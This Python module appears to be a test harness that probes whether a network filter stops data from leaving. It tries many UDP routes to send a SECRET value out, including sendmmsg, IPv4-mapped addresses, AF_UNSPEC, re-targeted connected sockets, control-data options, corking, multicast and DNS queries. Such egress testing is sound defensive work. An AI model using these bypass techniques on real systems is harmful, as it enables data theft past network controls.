"""Ways to send a datagram: every one of them would carry data out without a connection."""

from __future__ import annotations

import ctypes
import errno
import socket
import struct
import time
from typing import Any

from attacks.base import DONE, LIBC, SECRET, each, failure, family_of, raw_connect, sockaddr_in, told

IP_PKTINFO, IP_OPTIONS, UDP_CORK, UDP_SEGMENT, UDP_ENCAP = 8, 4, 1, 103, 100
AF_UNSPEC = struct.pack("=H14x", socket.AF_UNSPEC)


def datagram(address: str) -> socket.socket:
    return socket.socket(family_of(address), socket.SOCK_DGRAM)


def sendto(address: str, port: int) -> str:
    with datagram(address) as opened:
        return told(opened.sendto, SECRET, (address, port))


def connected(address: str, port: int) -> str:
    with datagram(address) as opened:
        opened.connect((address, port))
        return told(opened.send, SECRET)


def sendmsg(address: str, port: int) -> str:
    with datagram(address) as opened:
        return told(opened.sendmsg, [SECRET], [], 0, (address, port))


class _Iovec(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


class _Msghdr(ctypes.Structure):
    _fields_ = (
        ("name", ctypes.c_void_p),
        ("namelen", ctypes.c_uint32),
        ("iov", ctypes.c_void_p),
        ("iovlen", ctypes.c_size_t),
        ("control", ctypes.c_void_p),
        ("controllen", ctypes.c_size_t),
        ("flags", ctypes.c_int),
    )


class _Mmsghdr(ctypes.Structure):
    _fields_ = (("header", _Msghdr), ("length", ctypes.c_uint32))


def sendmmsg(address: str, port: int) -> str:
    """Several in one system call, the first of them to loopback: is each judged?"""
    keep: list[Any] = []

    def message(to: str) -> _Mmsghdr:
        name = ctypes.create_string_buffer(sockaddr_in(to, port), 16)
        data = ctypes.create_string_buffer(SECRET, len(SECRET))
        vector = _Iovec(ctypes.addressof(data), len(SECRET))
        keep.extend((name, data, vector))
        return _Mmsghdr(_Msghdr(ctypes.addressof(name), 16, ctypes.addressof(vector), 1, None, 0, 0), 0)

    messages = (_Mmsghdr * 3)(message("127.0.0.1"), message(address), message(address))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as opened:
        sent = LIBC.sendmmsg(opened.fileno(), messages, 3, 0)
        return f"{sent} sent" if sent >= 0 else failure()


def mapped(address: str, port: int) -> dict[str, str]:
    """An IPv4 destination in IPv6 clothes, by sendto and connect."""
    name = f"::ffff:{address}"
    return {"sendto": told(sendto, name, port) if sendto(name, port) == DONE else sendto(name, port),
            "connect": connected_or_error(name, port)}  # fmt: skip


def connected_or_error(address: str, port: int) -> str:
    try:
        return connected(address, port)
    except OSError as error:
        return errno.errorcode[error.errno or 0]


def elsewhere_when_connected(address: str, port: int) -> dict[str, str]:
    """Connected to where datagrams may go (loopback; a resolver), then sendto another destination on that socket."""
    found = {}
    for name, first in (("loopback", ("127.0.0.1", 9)), ("resolver", ("192.0.2.53", 53))):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as opened:
            opened.connect(first)
            found[f"{name}, sendto"] = told(opened.sendto, SECRET, (address, port))
            found[f"{name}, sendmsg"] = told(opened.sendmsg, [SECRET], [], 0, (address, port))
            found[f"{name}, unspec sendto"] = _send_unspec(opened, address, port)
            found[f"{name}, connect"] = told(opened.connect, (address, port))
            raw_connect(opened, AF_UNSPEC)
            found[f"{name}, disconnected, sendto"] = told(opened.sendto, SECRET, (address, port))
    return found


def _send_unspec(opened: socket.socket, address: str, port: int) -> str:
    name = sockaddr_in(address, port, socket.AF_UNSPEC)
    sent = LIBC.sendto(opened.fileno(), SECRET, len(SECRET), 0, name, len(name))
    return DONE if sent >= 0 else failure()


def family_unspec(address: str, port: int) -> str:
    """sendto takes AF_UNSPEC for AF_INET."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as opened:
        return _send_unspec(opened, address, port)


def with_control(address: str, port: int, source: str) -> dict[str, str]:
    """With a source, an interface or a route of the sender's choice in the control data."""
    info = struct.pack("=I4s4s", 1, socket.inet_aton(source), socket.inet_aton("0.0.0.0"))
    route = b"\x01\x83\x0b\x04" + socket.inet_aton(source) + socket.inet_aton(address)

    def send(*control: tuple[int, int, bytes]) -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as opened:
            opened.sendmsg([SECRET], list(control), 0, (address, port))

    return each(
        {
            "source": lambda: send((socket.SOL_IP, IP_PKTINFO, info)),
            "route": lambda: send((socket.SOL_IP, 7, route)),  # IP_RETOPTS
            "segments": lambda: send((socket.IPPROTO_UDP, UDP_SEGMENT, struct.pack("=H", 3))),
        }
    )


def corked(address: str, port: int) -> str:
    """Collected for loopback, then pushed with another destination: the kernel takes the first."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as opened:
        opened.setsockopt(socket.IPPROTO_UDP, UDP_CORK, 1)
        opened.sendto(SECRET, ("127.0.0.1", 9))
        result = told(opened.sendto, SECRET, (address, port))
        opened.setsockopt(socket.IPPROTO_UDP, UDP_CORK, 0)
        return result


def to_groups(port: int) -> dict[str, str]:
    """Multicast and broadcast."""
    found = {}
    for address in ("224.0.0.1", "239.1.2.3", "255.255.255.255", "203.0.113.255", "ff02::1", "ff0e::1"):
        with datagram(address) as opened:
            opened.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            found[address] = told(opened.sendto, SECRET, (address, port))
    return found


def ways(address: str, port: int) -> dict[str, str]:
    """Plain ones, of either family."""
    return {"sendto": sendto(address, port), "sendmsg": sendmsg(address, port),
            "connect": connected_or_error(address, port)}  # fmt: skip


def ask(server: str, port: int, query: str, over: str = "udp") -> str:
    """A DNS message as it is, in hex; the answer in hex."""
    wire = bytes.fromhex(query)
    if over == "tcp":
        with socket.create_connection((server, port), 90) as opened:
            opened.sendall(len(wire).to_bytes(2, "big") + wire)
            reader = opened.makefile("rb")
            return reader.read(int.from_bytes(reader.read(2), "big")).hex()
    with datagram(server) as asker:
        asker.settimeout(90)
        asker.sendto(wire, (server, port))
        return asker.recv(65535).hex()


def ask_at_once(server: str, port: int, queries: list[str], over: str, seconds: float) -> list[str]:
    """Many DNS messages, each by a socket of its own; what has come back after a while, "" for silence."""
    askers = []
    for query in queries:
        wire = bytes.fromhex(query)
        kind = socket.SOCK_DGRAM if over == "udp" else socket.SOCK_STREAM
        asker = socket.socket(family_of(server), kind)
        asker.settimeout(90)
        asker.connect((server, port))
        asker.send(wire if over == "udp" else len(wire).to_bytes(2, "big") + wire)
        askers.append(asker)
    time.sleep(seconds)
    return [_received(asker) for asker in askers]


def _received(asker: socket.socket) -> str:
    with asker:
        asker.setblocking(False)
        try:
            return asker.recv(65535).hex()
        except OSError:
            return ""


def who_answers(server: str, query: str) -> list[Any]:
    """The source that recvfrom shows for an answer."""
    with datagram(server) as asker:
        asker.settimeout(90)
        asker.sendto(bytes.fromhex(query), (server, 53))
        return list(asker.recvfrom(4096)[1][:2])
